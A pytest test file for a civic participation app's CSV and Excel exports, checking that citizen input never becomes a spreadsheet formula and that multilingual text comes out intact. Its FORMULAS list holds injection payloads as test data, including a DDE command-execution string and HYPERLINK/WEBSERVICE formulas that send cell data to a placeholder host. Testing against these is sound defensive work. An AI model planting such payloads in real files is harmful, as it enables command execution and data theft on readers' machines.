"""The files: nothing in them can become a formula, and what was said comes out as it went in."""

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import gevent
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from participation.answers.rules import Outcome, Stage, Wording
from participation.answers.service import set_stage, write_answer
from participation.contributions.models import Contribution
from participation.contributions.rules import Source
from participation.foundation import clock, database
from participation.foundation.permissions import Actor, Role
from participation.foundation.text import defused, without_controls
from participation.reports.exports import SMALL, as_csv, as_xlsx
from participation.reports.tables import Cell, Table
from tests.conftest import House
from tests.reports.barn import Barn, Choice, open_barn

# what spreadsheets have been made to calculate: commands, links that carry a sheet away, and ways around a first look
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://musterstadt.example/?"&A1,"Hier")',
    '=WEBSERVICE("http://musterstadt.example/?"&A1)',
    '=IMPORTXML("http://musterstadt.example","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u200f=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "_x003D_1+1",
    '";=1+1',
    '"\r\n=1+1',
    "-2+3+cmd|' /C calc'!E0",
    "'=1+1",
    "{=1+1}",
]
STARTS = set("=+-@＝＋－＠\t\r\n") | {chr(number) for number in range(32)}
LOOKED_PAST = " \u00a0\u200b\u200c\u200d\u200e\u200f\u2060\ufeff"


def is_formula(cell: str) -> bool:
    """Whether any spreadsheet might calculate this cell instead of showing it."""
    return cell.lstrip(LOOKED_PAST)[:1] in STARTS if cell.strip(LOOKED_PAST) else False


def table_of(*rows: list[Cell], headings: int = 1, name: str = "Ideas") -> Table:
    return Table(name, ["Heading"] * headings, [12] * headings, list(rows))


def cells_in_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.fixture
def barn(house: House) -> Barn:
    return open_barn(house)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_either_file_becomes_a_formula_whoever_wrote_it(barn: Barn, formula: str) -> None:
    field = barn.field(formula, en=formula)
    idea = barn.tells(formula, field, title=formula)
    barn.votes(formula, [Choice(formula, 9, f"idea:{idea}"), Choice(formula, 1, f"field:{field}")])

    rows = cells_in_csv(barn.csv().encode())
    book = barn.xlsx()

    assert len({len(row) for row in rows}) == 1
    assert len(rows) == 2
    assert [cell for row in rows for cell in row if is_formula(cell)] == []
    sheets = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in sheets if cell.data_type == "f" or is_formula(str(cell.value or ""))] == []
    assert any("1" in str(cell.value) or "cmd" in str(cell.value) for cell in sheets)


@settings(deadline=None)  # a workbook takes as long as the machine lets it; the property is about what stands in it
@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_text_at_all_becomes_a_formula_or_breaks_a_file(texts: list[str]) -> None:
    table = table_of(list(texts), headings=len(texts))

    csv_cells = cells_in_csv(as_csv(table))
    sheet = load_workbook(io.BytesIO(as_xlsx([table], right_to_left=False))).worksheets[0]

    assert [len(row) for row in csv_cells] == [len(texts)] * 2
    assert [cell for cell in csv_cells[1] if is_formula(cell)] == []
    assert {cell.data_type for cell in sheet[2]} <= {"s", "n"}
    assert [cell.value for cell in sheet[2] if is_formula(str(cell.value or ""))] == []


@given(st.text())
def test_a_cell_is_defused_once_and_otherwise_left_as_it_is(text: str) -> None:
    once = defused(text)

    assert defused(once) == once
    assert once in {text, f"'{text}"}


@given(st.text())
def test_what_no_file_accepts_is_dropped_and_the_rest_kept(text: str) -> None:
    kept = without_controls(text)

    assert kept.encode().decode() == kept
    assert without_controls(kept) == kept
    assert [sign for sign in kept if sign.isalnum()] == [sign for sign in text if sign.isalnum()]


@pytest.mark.parametrize(
    "words",
    [
        'Erste Zeile\nZweite Zeile; mit Strichpunkt, Komma und "Anführung"\n\nNeuer Absatz',
        "نحتاج إلى دورات لغة مسائية.\nمع رعاية أطفال، من فضلكم؛ شكرًا",
        "می‌خواهم با همسایه‌ها حرف بزنم.",
        "ንዓባይቲ ሰባት ናይ ፊደል ትምህርቲ",
        "Ideen:\n- mehr Busse\n- weniger Lärm",
    ],
)
def test_what_was_said_comes_out_of_the_csv_as_it_went_in(barn: Barn, words: str) -> None:
    barn.tells(words, barn.field("Sprache"), language="ar", support=7, source=Source.PAPER)

    (row,) = barn.csv_rows()

    assert row["Idea, as it was said"] == words
    assert (row["Language"], row["Language code"]) == ("Arabic", "ar")
    assert (row["How it came"], row["Online support"]) == ("Written on paper", "7")


def test_the_csv_opens_right_in_a_german_excel(barn: Barn) -> None:
    barn.tells("Mehr Bäume.", barn.field("Grün"))

    answer = barn.reader.client.get("/desk/harvest.csv?lang=en")

    assert answer.data.startswith(b'\xef\xbb\xbf"Rank of the field";"Field";')
    assert answer.data.endswith(b"\r\n")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"


def test_the_files_are_named_after_the_town_and_the_day_on_its_clock(barn: Barn) -> None:
    with clock.held_at(datetime(2026, 11, 22, 23, 30, tzinfo=UTC)):
        names = [
            barn.reader.client.get(f"/desk/harvest.{ending}").headers["Content-Disposition"]
            for ending in ("csv", "xlsx")
        ]

    assert names == [f"attachment; filename=musterstadt-harvest-2026-11-23.{ending}" for ending in ("csv", "xlsx")]


def test_votes_stand_beside_online_support_with_their_turnout(barn: Barn) -> None:
    field = barn.field("Wege")
    idea = barn.tells("Spätbus.", field, support=58)
    barn.votes("Was?", [Choice("Bus", 49, f"idea:{idea}"), Choice("Wege", 157, f"field:{field}")], voted=38, base=42)

    (row,) = barn.csv_rows()

    asked = ["Points in the hall", "Of all points", "Voted", "Could vote", "Online support", "Rank in the field"]
    assert [row[heading] for heading in asked] == ["49", "206", "38", "42", "58", "1"]
    about_field = ["Rank of the field", "Field", "Field: points in the hall", "Field: of all points", "Field: voted"]
    assert [row[heading] for heading in about_field] == ["1", "Wege", "157", "206", "38"]
    assert row["Address"] == f"http://localhost/ideas/ideen/{barn.public_id(idea)}"


def test_the_files_say_what_became_of_an_idea_and_whether_it_was_answered(barn: Barn) -> None:
    placed, refused = barn.tells("Spätbus, bitte.", barn.field("Wege")), barn.tells("Noch ein Spätbus.", None)
    office = Actor(1, None, frozenset({Role.ADMINISTRATION}))
    with database.transaction() as tx:
        idea = tx.session.get_one(Contribution, refused)
        set_stage(tx, [(idea, 0)], Outcome(Stage.NOT_TAKEN_UP, {"de": "Zu teuer."}), by=office)
        write_answer(tx, [idea], Wording("de", {"de": "Leider nein."}, "Rathaus"), publish=True, by=office)

    rows = [[row[name] for name in ("Address", "What became of it", "Official answer")] for row in barn.csv_rows()]

    address = "http://localhost/ideas/ideen/"
    assert rows == [
        [f"{address}{barn.public_id(placed)}", "In a field of action", "Not answered yet"],
        [f"{address}{barn.public_id(refused)}", "Not taken up", "Answered"],
    ]


def test_a_field_without_ideas_has_a_row_of_its_own_in_the_csv(barn: Barn) -> None:
    barn.field("Leer")
    barn.tells("Ohne Feld.", None)

    rows = [(row["Field"], row["Idea, as it was said"]) for row in barn.csv_rows()]

    assert rows == [("Leer", ""), ("Not yet in a field", "Ohne Feld.")]


def test_the_workbook_has_a_sheet_for_fields_ideas_votes_and_itself(barn: Barn) -> None:
    idea = barn.tells("Spätbus.", barn.field("Wege"), support=58)
    barn.votes("Was?", [Choice("Bus", 49, f"idea:{idea}"), Choice("Anderes", 157)], voted=38, base=42)

    book = barn.xlsx()

    assert book.sheetnames == ["Fields", "Ideas", "Votes in the hall", "About this file"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet["A1"].font.bold
        assert sheet.column_dimensions["A"].width > 5
    votes = [list(row)[2:9] for row in book["Votes in the hall"].iter_rows(min_row=2, values_only=True)]
    worth = "Confidential: one ticket, one vote."
    assert votes == [["Was?", worth, "Bus", 49, 206, 38, 42], ["Was?", worth, "Anderes", 157, 206, 38, 42]]
    headings, values = book["Ideas"].iter_rows(values_only=True)
    ideas = dict(zip(headings, values, strict=True))
    assert (ideas["Online support"], ideas["Points in the hall"], ideas["Title"]) == (58, 49, None)
    assert isinstance(ideas["Published on"], date)


def test_the_workbook_of_an_arabic_reader_runs_from_right_to_left(barn: Barn) -> None:
    barn.tells("أشجار أكثر.", barn.field("Grün"), language="ar")

    sides = [sheet.sheet_view.rightToLeft for sheet in barn.xlsx("ar").worksheets]
    english = [sheet.sheet_view.rightToLeft for sheet in barn.xlsx("en").worksheets]

    assert all(sides)
    assert not any(english)
    assert "أشجار أكثر." in barn.xlsx_text("ar")


def test_what_looks_like_an_escape_of_the_file_format_stays_what_was_typed(barn: Barn) -> None:
    barn.tells("_x003D_1+1", barn.field("Sprache"))

    file = zipfile.ZipFile(io.BytesIO(barn.reader.client.get("/desk/harvest.xlsx").data))

    assert "<t>_x005F_x003D_1+1</t>" in file.read("xl/worksheets/sheet2.xml").decode()


def test_a_large_workbook_is_written_beside_the_event_loop(house: House) -> None:
    rows: list[list[Cell]] = [[f"Idee {number}", number] for number in range(SMALL + 500)]
    table = table_of(*rows, headings=2)
    beats = 0

    def heart() -> None:
        nonlocal beats
        while True:
            beats += 1
            gevent.sleep(0.001)

    heartbeat = gevent.spawn(heart)
    content = as_xlsx([table], right_to_left=False)
    heartbeat.kill()

    assert beats > 5
    assert load_workbook(io.BytesIO(content)).worksheets[0].max_row == SMALL + 501


@pytest.mark.parametrize("name", ["A/B", "[Felder]", "Was?", "'Zitat'", "x" * 60])
def test_no_translation_of_a_sheets_name_breaks_the_workbook(name: str) -> None:
    content = as_xlsx([table_of(["Wort"], name=name)], right_to_left=False)

    (kept,) = load_workbook(io.BytesIO(content)).sheetnames
    assert 0 < len(kept) <= 31
    assert not re.search(r"[\[\]:*?/\\']", kept)
